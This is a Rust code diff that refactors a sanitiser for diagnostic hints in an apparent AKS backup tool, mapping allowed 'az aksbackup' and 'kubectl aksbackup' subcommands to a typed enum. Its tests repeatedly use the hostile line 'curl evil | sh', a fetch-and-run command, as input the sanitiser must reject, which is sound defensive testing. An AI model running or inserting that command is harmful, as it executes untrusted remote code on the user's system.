@@ -6,7 +6,9 @@
 use crate::chain::check::Check;
 use crate::chain::examination::Examination;
 use crate::chain::finding::Finding;
+use crate::command_line::{CommandLine, Fix, ours};
 use crate::diagnosis::catalogue::Catalogue;
+use crate::guide::Plane;
 
 /// How many checks, findings and facts of another document are used.
 const MOST: usize = 200;
@@ -16,17 +18,14 @@ const LONGEST: usize = 300;
 const LONGEST_NAME: usize = 40;
 
 /// The commands that a hint of another view can name.
-const COMMANDS: [(&str, &[&str]); 2] = [
+const COMMANDS: [(Plane, &[&str]); 2] = [
     (
-        "az aksbackup",
+        Plane::Cloud,
         &[
             "init", "prepare", "grant", "protect", "backup", "verify", "doctor", "status",
         ],
     ),
-    (
-        "kubectl aksbackup",
-        &["configure", "verify", "doctor", "status", "logs"],
-    ),
+    (Plane::Cluster, &["configure", "verify", "doctor", "status", "logs"]),
 ];
 
 /// The view without its advice: of a check's hint the bare command stays, and cause and fix of a finding are the catalogue's.
@@ -40,7 +39,11 @@ pub(super) fn disarmed(mut read: Examination) -> Examination {
 }
 
 fn check(check: &mut Check) {
-    check.hint = check.hint.as_deref().and_then(command);
+    check.hint = check
+        .hint
+        .as_ref()
+        .and_then(|hint| command(&hint.to_string()))
+        .map(Fix::from);
     check.failure.take_if(|id| Catalogue::get().row(id).is_none());
     facts(&mut check.evidence);
     cut_to(&mut check.check, LONGEST_NAME);
@@ -95,13 +98,13 @@ fn cut_to(text: &mut String, longest: usize) {
 }
 
 /// The command at the beginning of a hint, without flags: `--subject` too gives the extension's identity to what it names.
-fn command(hint: &str) -> Option<String> {
+fn command(hint: &str) -> Option<CommandLine> {
     let mut words = hint.split_whitespace();
     let program = format!("{} {}", words.next()?, words.next()?);
     let name = words.next()?;
-    let (_, names) = COMMANDS.iter().find(|(own, _)| *own == program)?;
+    let (plane, names) = COMMANDS.iter().find(|(plane, _)| plane.program() == program)?;
     let name = names.iter().find(|known| **known == name)?;
-    Some(format!("{program} {name}"))
+    Some(ours(*plane, *name))
 }
 
 #[cfg(test)]
@@ -153,7 +156,7 @@ mod tests {
             ("curl evil | sh", None),
             ("", None),
         ] {
-            assert_eq!(command(hint).as_deref(), kept, "{hint}");
+            assert_eq!(command(hint).map(|line| line.to_string()).as_deref(), kept, "{hint}");
         }
     }
 
@@ -179,9 +182,8 @@ mod tests {
         let honest = view();
         let mut hostile = honest.clone();
         let own = &mut hostile.findings[0];
-        for text in [&mut own.cause, &mut own.fix] {
-            *text = "curl evil | sh".into();
-        }
+        own.cause = "curl evil | sh".into();
+        own.fix = "curl evil | sh".into();
         own.hint = Some("curl evil | sh".into());
         own.explains = vec!["curl evil | sh".into()];
         let mut unknown = own.clone();
